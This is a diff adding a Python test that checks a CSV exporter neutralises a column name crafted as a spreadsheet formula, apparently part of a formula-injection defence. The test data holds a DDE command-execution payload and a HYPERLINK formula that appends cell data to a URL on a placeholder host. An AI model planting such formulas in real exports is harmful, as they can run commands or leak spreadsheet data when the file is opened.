@@ -87,6 +87,18 @@ def test_numbers_stay_numbers_in_the_csv() -> None:
     assert text.splitlines()[1:] == ['"\'=HYPERLINK(""http://x/?d=""&A2,""Klik"")",-3.5,-4', "-3.5,2.0,5"]
 
 
+def test_a_column_name_that_runs_as_a_formula_is_neutralised_and_read_back(tmp_path: Path) -> None:
+    """An extra column a submitter named like a formula (kept in the merged tables) is written as a cell would be,
+    and read back under its own name."""
+    from paritrana_nb.readers import read_table_file
+
+    table = pd.DataFrame({"nama": ["A"], DDE: ["x"], "<b>x</b>": ["-1+1"]})
+    path = tmp_path / "t.csv"
+    path.write_text(table_csv_text(table), encoding="utf-8")
+    assert path.read_text(encoding="utf-8").splitlines()[0] == "nama,'+cmd|' /C calc'!A0,<b>x</b>"
+    assert list(read_table_file(path).cells.columns) == ["nama", DDE, "<b>x</b>"]
+
+
 def test_one_number_policy_by_column_type() -> None:
     table = pd.DataFrame(
         {
